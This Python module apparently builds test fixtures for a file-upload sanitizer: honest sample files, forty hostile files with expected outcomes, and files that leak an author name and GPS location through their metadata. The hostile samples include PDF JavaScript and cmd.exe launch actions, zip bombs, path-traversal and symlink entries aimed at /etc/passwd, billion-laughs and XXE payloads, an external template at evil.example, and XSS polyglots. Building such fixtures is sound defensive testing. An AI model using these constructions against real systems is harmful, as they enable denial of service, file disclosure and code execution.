"""Files for tests, made here byte by byte: honest ones, hostile ones, and ones that say who made them and where."""

import io
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image
from PIL.PngImagePlugin import PngInfo

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
WHO = "ZhangJubao"
CONTENT_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


# --- honest ones


def picture(kind="JPEG", size=(60, 40), mode="RGB", **options):
    made = io.BytesIO()
    Image.effect_noise(size, 60).convert(mode).save(made, kind, **options)
    return made.getvalue()


def pdf(pages=1, change=None, **options):
    """``change(document)`` may alter it before it is saved."""
    made = io.BytesIO()
    with pikepdf.new() as document:
        for _page in range(pages):
            document.add_blank_page()
            document.pages[-1].Contents = document.make_stream(b"0 0 100 100 re f")
        if change:
            change(document)
        document.save(made, **options)
    return made.getvalue()


def packed(entries, compression=zipfile.ZIP_DEFLATED):
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", compression) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return made.getvalue()


def docx(*paragraphs, **more):
    body = "".join(f"<w:p><w:r><w:t>{each}</w:t></w:r></w:p>" for each in paragraphs or ["经查属实"])
    document = f"<w:document {WORD}><w:body>{body}</w:body></w:document>".encode()
    return packed({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": document, **more})


def xlsx(*rows, **more):
    lines = "".join(
        "<row>" + "".join(f"<c t='inlineStr'><is><t>{c}</t></is></c>" for c in row) + "</row>" for row in rows
    )
    sheet = f"<worksheet><sheetData>{lines}</sheetData></worksheet>".encode()
    parts = {"[Content_Types].xml": CONTENT_TYPES, "xl/workbook.xml": b"<workbook/>", "xl/worksheets/sheet1.xml": sheet}
    return packed({**parts, **more})


MP3 = b"ID3\x04\x00\x00\x00\x00\x00\x00" + bytes(200)
MP4 = b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isommp42" + bytes(50)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000)


def seeds():
    """Twelve honest files by name."""
    return {
        "a.pdf": pdf(2),
        "b.pdf": pdf(1, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "a.jpg": picture(),
        "b.png": picture("PNG", mode="RGBA"),
        "c.gif": picture("GIF", mode="P"),
        "d.tif": picture("TIFF"),
        "e.webp": picture("WEBP"),
        "a.docx": docx("笔录", "经查属实"),
        "a.xlsx": xlsx(["日期", "金额"], ["2026-02-10", "600"]),
        "a.zip": packed({"a.txt": b"abc", "b.txt": b"def"}),
        "a.txt": "收到现金一千元\n".encode() * 20,
        "a.mp4": MP4,
    }


# --- hostile ones


def acting(key, value):
    return pdf(change=lambda document: document.Root.__setitem__(key, value))


def with_script(document):
    document.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def with_attachment(document):
    document.attachments["setup.exe"] = b"MZ\x90\x00"


def on_page(action):
    def change(document):
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)
        document.pages[0].obj.Annots = Array([document.make_indirect(link)])

    return change


def huge(width, height, kind="PNG"):
    """A picture that says it is large and holds next to nothing."""

    def chunk(name, content):
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    if kind == "GIF":
        return b"GIF89a" + struct.pack("<HH", width, height) + bytes(3) + b"\x2c" + bytes(9) + b"\x02\x00;"
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = zlib.compress(bytes(200_000), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def overlapped(entries=250, size=2_000_000):
    """Entries that all point to the same bytes: small to carry, large to unpack."""
    kernel = zlib.compress(bytes(size), 9)[2:-4]
    name = b"a"
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, zlib.crc32(bytes(size)), len(kernel), size, 1, 0)
    central = b""
    for number in range(entries):
        name = b"%04d" % number
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, zlib.crc32(bytes(size)), len(kernel), size,
            len(name), 0, 0, 0, 0, 0, 0,
        ) + name  # fmt: skip
    body = local + b"a" + kernel
    return body + central + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, entries, entries, len(central), len(body), 0)


def symlink():
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        entry = zipfile.ZipInfo("link")
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    return made.getvalue()


def encrypted_zip():
    content = bytearray(packed({"a.txt": b"secret secret"}, zipfile.ZIP_STORED))
    content[6] |= 1
    content[content.index(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


def nested(depth):
    content = b"abc"
    for level in range(depth):
        content = packed({f"{level}.zip": content})
    return content


def laughs(part):
    entities = "".join(f'<!ENTITY a{n} "' + f"&a{n - 1};" * 10 + '">' for n in range(1, 10))
    return {part: f'<!DOCTYPE x [<!ENTITY a0 "ha">{entities}]><x>&a9;</x>'.encode()}


def outside(part):
    return {part: b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'}


TEMPLATE = (
    b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" '
    b'TargetMode="External"/></Relationships>'
)
REFUSED, APART = "refused", "apart"


def hostile():
    """Forty files with what has to become of them: (name, content, refused or apart, code)."""
    page_bomb = pdf(2001)
    fat = packed({f"{n}.bin": bytes(30_000_000) for n in range(8)})
    return [
        ("script.pdf", pdf(change=with_script), APART, "active"),
        ("launch.pdf", pdf(change=on_page(Dictionary(S=Name.Launch, F=String("cmd.exe")))), APART, "active"),
        ("names.pdf", acting("/Names", Dictionary(JavaScript=Dictionary(Names=[]))), APART, "active"),
        ("xfa.pdf", acting("/AcroForm", Dictionary(XFA=String("<xdp/>"), Fields=[])), APART, "active"),
        ("attached.pdf", pdf(change=with_attachment), APART, "active"),
        ("submit.pdf", pdf(change=on_page(Dictionary(S=Name.SubmitForm, F=String("http://x")))), APART, "active"),
        ("triggers.pdf", acting("/AA", Dictionary(WC=Dictionary(S=Name.JavaScript, JS=String("1")))), APART, "active"),
        ("remote.pdf", pdf(change=on_page(Dictionary(S=Name.GoToR, F=String("\\\\host\\x")))), APART, "active"),
        ("locked.pdf", pdf(encryption=pikepdf.Encryption(owner="o", user="u")), APART, "encrypted"),
        ("cut.pdf", pdf(3)[:-400], APART, "damaged"),
        ("head.pdf", b"%PDF-1.7\n", APART, "damaged"),
        ("zipped.pdf", pdf() + packed({"a.txt": b"x"}), APART, "polyglot"),
        ("page.pdf", pdf() + b"<html><script>alert(1)</script>", APART, "polyglot"),
        ("pages.pdf", page_bomb, REFUSED, "pages"),
        ("html.pdf", b"<html><script>1</script></html>", REFUSED, "mismatch"),
        ("program.jpg", b"MZ\x90\x00" + bytes(300), REFUSED, "mismatch"),
        ("paper.jpg", pdf(), REFUSED, "mismatch"),
        ("gifar.gif", picture("GIF", mode="P") + packed({"a.class": b"x"}), APART, "polyglot"),
        ("trailing.jpg", picture() + b"<script>alert(1)</script>", APART, "polyglot"),
        ("cut.jpg", picture(size=(300, 300))[:4000], APART, "damaged"),
        ("flood.png", huge(50_000, 50_000), REFUSED, "pixels"),
        ("flood.gif", huge(60_000, 60_000, "GIF"), REFUSED, "pixels"),
        ("empty.png", huge(7_000, 7_000), APART, "damaged"),
        ("draw.svg", b"<svg onload='alert(1)'/>", REFUSED, "type"),
        ("markup.txt", b"<script>alert(1)</script>", REFUSED, "mismatch"),
        ("blank.txt", b" \r\n\t" * 50, REFUSED, "blank"),
        ("eicar.txt", EICAR, APART, "virus"),
        ("eicar.zip", packed({"a.txt": EICAR}), APART, "virus"),
        ("bomb.zip", fat, REFUSED, "bomb"),
        ("overlap.zip", overlapped(), REFUSED, "bomb"),
        ("nested.zip", nested(9), REFUSED, "nested"),
        ("many.zip", packed({f"{n}": b"" for n in range(1001)}), REFUSED, "bomb"),
        ("slip.zip", packed({"../../etc/passwd": b"x"}), REFUSED, "structure"),
        ("absolute.zip", packed({"/etc/passwd": b"x"}), REFUSED, "structure"),
        ("link.zip", symlink(), REFUSED, "structure"),
        ("locked.zip", encrypted_zip(), APART, "encrypted"),
        ("laughs.xlsx", xlsx(**laughs("xl/a.xml")), REFUSED, "structure"),
        ("outside.docx", docx(**outside("word/a.xml")), REFUSED, "structure"),
        ("template.docx", docx(**{"word/_rels/settings.xml.rels": TEMPLATE}), APART, "active"),
        ("link.xlsx", xlsx(**{"xl/externalLinks/externalLink1.xml": b"<x/>"}), REFUSED, "macros"),
        ("macro.docx", docx(**{"word/vbaProject.bin": b"x"}), REFUSED, "macros"),
        ("macro.doc", OLE + "_VBA_PROJECT".encode("utf-16-le"), APART, "active"),
        ("locked.docx", OLE + "EncryptedPackage".encode("utf-16-le"), APART, "encrypted"),
    ]


# --- ones that tell


def exif():
    told = Image.Exif()
    told[0x013B], told[0x010F], told[0x9C9D] = WHO, "PhoneMaker", WHO.encode("utf-16-le")
    degrees = ((31.0, 13.0, 49.4), (121.0, 28.0, 25.3))
    told.get_ifd(0x8825).update({1: "N", 2: degrees[0], 3: "E", 4: degrees[1]})
    return told.tobytes()


def scan_with_exif(document):
    """A page that shows a photograph as the telephone wrote it."""
    photo = document.make_stream(picture(exif=exif()))
    photo.Type, photo.Subtype, photo.Width, photo.Height = Name.XObject, Name.Image, 60, 40
    photo.ColorSpace, photo.BitsPerComponent, photo.Filter = Name.DeviceRGB, 8, Name.DCTDecode
    document.pages[0].Resources = Dictionary(XObject=Dictionary(I=photo))
    document.docinfo["/Author"] = WHO


def signed(document):
    document.docinfo["/Author"], document.docinfo["/Creator"] = WHO, "PhoneMaker"
    with document.open_metadata() as words:
        words["dc:creator"] = [WHO]
    document.pages[0].obj.PieceInfo = Dictionary(Maker=Dictionary(Private=String(WHO)))


def telling():
    """Thirty files that name their author or say where they were made, by name."""
    told = exif()
    note = PngInfo()
    note.add_text("Author", WHO)
    note.add_itxt("XML:com.adobe.xmp", f"<x><dc:creator>{WHO}</dc:creator></x>")
    core = f"<cp:coreProperties xmlns:cp='a' xmlns:dc='b'><dc:creator>{WHO}</dc:creator></cp:coreProperties>".encode()
    change = f"<w:p><w:ins w:author='{WHO}'><w:r><w:t>经查</w:t></w:r></w:ins></w:p>"
    marked = f"<w:document {WORD}><w:body>{change}</w:body></w:document>".encode()
    found = {}
    for n in range(6):
        size = (40 + 30 * n, 60)
        found[f"photo{n}.jpg"] = picture(size=size, exif=told, comment=WHO.encode())
        found[f"photo{n}.png"] = picture("PNG", size, exif=told, pnginfo=note)
    for n in range(3):
        found[f"photo{n}.webp"] = picture("WEBP", (50 + n, 50), exif=told, xmp=WHO.encode())
        found[f"photo{n}.tif"] = picture("TIFF", (50 + n, 50), tiffinfo={315: WHO, 270: WHO})
        found[f"signed{n}.pdf"] = pdf(n + 1, change=signed)
        found[f"scan{n}.pdf"] = pdf(n + 1, change=scan_with_exif)
        found[f"report{n}.docx"] = docx(f"第{n}次", **{"docProps/core.xml": core})
        found[f"table{n}.xlsx"] = xlsx(["日期", str(n)], **{"docProps/core.xml": core})
    found["marked.docx"] = packed(
        {"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": marked, "docProps/core.xml": core}
    )
    return found


def tells(content):
    """What a file still says of who made it and where: in words of any encoding, or in tags of a picture."""
    traces = [WHO.encode(), WHO.encode("utf-16-le"), WHO.encode("utf-16-be"), b"PhoneMaker", b"Exif\0\0"]
    if content.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            content = b"".join(map(archive.read, archive.namelist()))
    found = [each for each in traces if each in content]
    if content[:4] in {b"\xff\xd8\xff\xe0", b"\x89PNG"}:
        found += dict(Image.open(io.BytesIO(content)).getexif()).items()
    if content.startswith(b"%PDF"):
        with pikepdf.open(io.BytesIO(content)) as document:
            found += ["author"] if "/Author" in document.docinfo or "/Metadata" in document.Root else []
            for each in document.objects:
                if isinstance(each, pikepdf.Stream):
                    bare = each.read_raw_bytes() if each.get("/Filter") == Name.DCTDecode else each.read_bytes()
                    found += [trace for trace in traces if trace in bare]
    return found
